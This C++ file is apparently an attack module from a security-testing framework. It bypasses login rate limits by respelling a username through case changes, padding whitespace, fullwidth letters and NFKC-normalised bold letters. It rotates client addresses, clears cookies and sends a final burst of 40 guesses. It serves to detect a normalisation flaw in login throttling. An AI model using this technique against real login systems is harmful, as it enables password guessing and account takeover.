// guess-alias-names: one person under many spellings of the name. With his own account the attacker
// finds out which the app takes: capitals, spaces around, wide letters, and capitals that have no
// small letter until NFKC has made usual ones of them. A limit that counts the text as it comes, or
// in another order of the same steps, starts anew for each. Hours later many at once.
#include "core/attack/every_agent.h"
#include "core/attack/guesser.h"
#include "core/attack/session.h"
#include "core/base/ascii.h"

namespace parapet::attack {
namespace {

constexpr std::size_t kSpellingsAtOnce = 40;

using Fold = std::string (*)(std::string const& name, std::size_t number);

char upper_letter(char c) { return ascii::is_lower(c) ? static_cast<char>(c - 'a' + 'A') : c; }

// Letters in in_capitals where the number has a bit.
std::string in_capitals(std::string const& name, std::size_t number) {
    std::string text = name;
    for (std::size_t i = 0; i < text.size(); ++i)
        if (number >> (i % 16) & 1) text[i] = upper_letter(text[i]);
    return text;
}

std::string with_spaces(std::string const& name, std::size_t number) {
    return std::string(number % 8, ' ') + name + std::string(number / 8 % 8, '\t');
}

// U+FF21 and so on, which NFKC makes the usual letters of.
std::string in_wide_letters(std::string const& name, std::size_t number) {
    std::string text;
    std::size_t place = 0;
    for (char c : name) {
        bool const is_letter = ascii::is_alpha(c);
        if (!is_letter || !(number >> (place++ % 16) & 1)) {
            text += c;
            continue;
        }
        bool const is_small = c >= 'a';
        text += "\xEF";
        text += is_small ? '\xBD' : '\xBC';
        text += static_cast<char>((is_small ? 0x81 + c - 'a' : 0xA1 + c - 'A'));
    }
    return text;
}

// U+1D400 and so on, mathematical bold: who makes small letters first and then NFKC has capitals.
std::string in_bold_capitals(std::string const& name, std::size_t number) {
    std::string text;
    std::size_t place = 0;
    for (char c : name) {
        if (ascii::is_lower(c) && number >> (place++ % 16) & 1) {
            text += "\xF0\x9D\x90";
            text += static_cast<char>(0x80 + c - 'a');
        } else {
            text += c;
        }
    }
    return text;
}

constexpr Fold kFolds[] = {in_wide_letters, in_bold_capitals, in_capitals, with_spaces};

std::string respelled_name(std::string name, std::span<Fold const> folds, std::size_t number) {
    for (Fold fold : folds) name = fold(name, number);
    return name;
}

class GuessAliasNames final : public Agent {
    void run(Target& target) override {
        Guesser guesser(target);
        if (!guesser.can_try()) return;
        std::string const own = target.surface().attacker.username;
        std::vector<Fold> known;
        for (Fold fold : kFolds) {
            http::Request one = guesser.request(respelled_name(own, {&fold, 1}, 1),
                                                target.surface().attacker.password);
            one.client_address = guesser.new_address();
            target.forget_cookies();
            if (succeeded(target.send(one))) known.push_back(fold);
        }
        if (known.empty()) return;
        target.note("Names are taken in " + std::to_string(known.size()) + " other spellings.");
        for (std::size_t i = 1; !guesser.is_done(); ++i) {
            http::Request one =
                guesser.request(respelled_name(guesser.victim(), known, i), guesser.password());
            one.client_address = guesser.new_address();
            guesser.guess(one);
        }
        if (!guesser.is_in()) all_at_once(target, guesser, known);
    }

    // Who takes turns by name needs the one name for that, too.
    static void all_at_once(Target& target, Guesser& guesser, std::span<Fold const> known) {
        target.wait(kUntilForgotten);
        std::vector<http::Request> all;
        std::vector<std::string> names;
        for (std::size_t i = 1; i <= kSpellingsAtOnce; ++i) {
            names.push_back(respelled_name(guesser.victim(), known, i));
            all.push_back(guesser.request(names.back(), guesser.wrong_one()));
            all.back().client_address = guesser.new_address();
        }
        target.forget_cookies();
        target.send_together(all);
        guesser.count(names);
    }
};

}  // namespace

std::unique_ptr<Agent> make_guess_alias_names() { return std::make_unique<GuessAliasNames>(); }

}  // namespace parapet::attack
